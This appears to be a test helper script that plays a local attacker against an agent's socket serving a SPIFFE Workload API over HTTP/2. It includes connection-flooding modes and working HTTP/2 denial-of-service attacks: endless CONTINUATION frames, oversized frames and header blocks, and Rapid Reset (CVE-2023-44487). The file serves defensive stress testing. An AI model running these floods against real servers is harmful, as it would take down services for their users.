/**
 * A local attacker of the agent's socket, run as its own process under another uid
 * (tests and bench/soak.mjs spawn it with { uid: 65534 }). Plain Node, no project code,
 * so what it does is only what any local user could do.
 *
 *   attacker.mjs connect-close <socket> <count> <concurrency>
 *       connects and closes at once, `count` times, `concurrency` in flight
 *   attacker.mjs churn <socket> <per second> <seconds>
 *       connects and closes at once at a steady rate; prints JSON { done, failed, errors }
 *   attacker.mjs hold <socket> <count>
 *       opens `count` connections, prints "held <ok> <failed>", keeps them until killed
 *   attacker.mjs burst <socket> <count>
 *       opens `count` connections at once, each waits for the server's HTTP/2 SETTINGS
 *       after sending the preface; prints JSON { ok, refused, errors, ms }
 *   attacker.mjs h2 <socket> <kind>   (kind: continuation | big-frame | big-block | rapid-reset)
 *       sends that abuse on one connection and prints JSON { goaway, errorCode, closed, ms, sent }
 *
 * Every mode prints one line and exits by itself (except hold).
 */
import net from 'node:net';

const [mode, path, a, b] = process.argv.slice(2);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

function frame(type, flags, stream, payload) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

/** A minimal valid request header block: static-table indexes and literal values, no Huffman. */
function requestBlock(extra = Buffer.alloc(0)) {
  const lit = (idx, value) => Buffer.concat([Buffer.from([idx]), Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
    lit(0x04, '/SpiffeWorkloadAPI/FetchX509SVID'), // :path, literal without indexing (name index 4)
    lit(0x01, 'localhost'), // :authority
    extra,
  ]);
}

function connect() {
  return new Promise((resolve) => {
    const s = net.connect(path);
    s.once('connect', () => resolve({ s }));
    s.once('error', (err) => resolve({ err }));
  });
}

async function connectClose(count, concurrency) {
  let done = 0;
  let failed = 0;
  const worker = async () => {
    while (done < count) {
      done++;
      const { s, err } = await connect();
      if (err) failed++;
      else s.destroy();
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  console.log(JSON.stringify({ done, failed }));
}

async function churn(perSecond, seconds) {
  const errors = {};
  let done = 0;
  let failed = 0;
  const t0 = performance.now();
  const end = t0 + seconds * 1000;
  const inflight = new Set();
  while (performance.now() < end) {
    const due = Math.floor(((performance.now() - t0) / 1000) * perSecond);
    for (; done < due; done++) {
      const p = connect().then(({ s, err }) => {
        if (err) {
          failed++;
          errors[err.code] = (errors[err.code] ?? 0) + 1;
        } else s.destroy();
      });
      inflight.add(p);
      p.then(() => inflight.delete(p));
    }
    await new Promise((r) => setTimeout(r, 10));
  }
  await Promise.all(inflight);
  console.log(JSON.stringify({ done, failed, errors }));
}

async function hold(count) {
  const held = [];
  let failed = 0;
  for (let i = 0; i < count; i++) {
    const { s, err } = await connect();
    if (err) failed++;
    else {
      s.on('error', () => {});
      held.push(s);
    }
  }
  console.log(`held ${held.length} ${failed}`);
  setInterval(() => {}, 1e6);
}

async function burst(count) {
  const t0 = performance.now();
  const errors = {};
  let ok = 0;
  const one = () =>
    new Promise((resolve) => {
      const s = net.connect(path);
      let got = Buffer.alloc(0);
      const finish = (what) => {
        s.destroy();
        resolve(what);
      };
      s.once('connect', () => s.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))])));
      s.on('data', (c) => {
        got = Buffer.concat([got, c]);
        if (got.length >= 9 && got[3] === 4) finish('ok');
      });
      s.once('error', (err) => finish(err.code ?? err.message));
      s.once('close', () => finish('closed before SETTINGS'));
      s.setTimeout(120_000, () => finish('timeout'));
    });
  const results = await Promise.all(Array.from({ length: count }, one));
  for (const r of results) {
    if (r === 'ok') ok++;
    else errors[r] = (errors[r] ?? 0) + 1;
  }
  console.log(JSON.stringify({ ok, refused: (errors.EAGAIN ?? 0) + (errors.ECONNREFUSED ?? 0), errors, ms: Math.round(performance.now() - t0) }));
}

async function h2(kind) {
  const t0 = performance.now();
  const { s, err } = await connect();
  if (err) {
    console.log(JSON.stringify({ connectError: err.code }));
    return;
  }
  let goaway;
  let errorCode;
  let rx = Buffer.alloc(0);
  let sent = 0;
  let closed = false;
  s.on('data', (c) => {
    rx = Buffer.concat([rx, c]);
    while (rx.length >= 9) {
      const len = rx.readUIntBE(0, 3);
      if (rx.length < 9 + len) break;
      if (rx[3] === 7) {
        goaway = true;
        errorCode = rx.readUInt32BE(9 + 4);
      }
      rx = rx.subarray(9 + len);
    }
  });
  s.on('error', () => {});
  let closedMs;
  const gone = new Promise((r) => s.once('close', () => ((closed = true), (closedMs = Math.round(performance.now() - t0)), r())));
  // The server may stop reading (flow control, or it gave up without closing): stop then too.
  const deadline = t0 + Number(process.env.ATTACK_SECONDS ?? 20) * 1000;
  let stalled = false;
  const send = (buf) =>
    new Promise((resolve) => {
      if (closed || s.destroyed || performance.now() > deadline) return resolve(false);
      sent += buf.length;
      if (s.write(buf)) return resolve(true);
      const t = setTimeout(() => {
        stalled = true;
        closed = true;
        resolve(false);
      }, Math.max(0, deadline - performance.now()));
      const done = (ok) => () => {
        clearTimeout(t);
        resolve(ok);
      };
      s.once('drain', done(true));
      s.once('close', done(false));
    });
  await send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
  const limitBytes = 64 * 1024 * 1024;
  if (kind === 'continuation') {
    // HEADERS without END_HEADERS, then CONTINUATION frames that never end.
    await send(frame(1, 0, 1, requestBlock()));
    const junk = frame(9, 0, 1, Buffer.alloc(16_384, 0x40 /* literal with indexing, new name */));
    while (!closed && sent < limitBytes) await send(Buffer.concat(Array(16).fill(junk)));
  } else if (kind === 'big-frame') {
    // One 16 MiB - 1 frame announced; the body is streamed until the server gives up.
    await send(frame(0, 0, 1, Buffer.alloc(0)).subarray(0, 9).fill(0xff, 0, 3));
    const chunk = Buffer.alloc(256 * 1024);
    while (!closed && sent < 16 * 1024 * 1024) await send(chunk);
  } else if (kind === 'big-block') {
    // A header block of 8 MiB in 16 KiB frames: within frame limits, beyond any header list limit.
    const block = Buffer.alloc(8 * 1024 * 1024, 0x40);
    await send(frame(1, 0, 1, block.subarray(0, 16_384)));
    for (let off = 16_384; !closed && off < block.length; off += 16_384) {
      const end = Math.min(block.length, off + 16_384);
      await send(frame(9, end === block.length ? 4 : 0, 1, block.subarray(off, end)));
    }
  } else if (kind === 'rapid-reset') {
    // HEADERS then RST_STREAM(CANCEL) on ever new streams (CVE-2023-44487).
    const rst = Buffer.from([0, 0, 0, 8]);
    for (let id = 1; !closed && id < 2 * 20_000; id += 2) {
      await send(Buffer.concat([frame(1, 4, id, requestBlock()), frame(3, 0, id, rst)]));
    }
  } else {
    throw new Error(`unknown h2 attack ${kind}`);
  }
  await Promise.race([gone, new Promise((r) => setTimeout(r, stalled ? 0 : 10_000))]);
  console.log(JSON.stringify({ goaway: goaway ?? false, errorCode: errorCode ?? null, closed: closedMs !== undefined, closedMs: closedMs ?? null, stalled, sent, ms: Math.round(performance.now() - t0) }));
  s.destroy();
}

if (mode === 'connect-close') await connectClose(Number(a), Number(b ?? 50));
else if (mode === 'hold') await hold(Number(a));
else if (mode === 'churn') await churn(Number(a), Number(b));
else if (mode === 'burst') await burst(Number(a));
else if (mode === 'h2') {
  await h2(a);
  process.exit(0);
}
else {
  console.error(`attacker: unknown mode ${mode}`);
  process.exit(2);
}
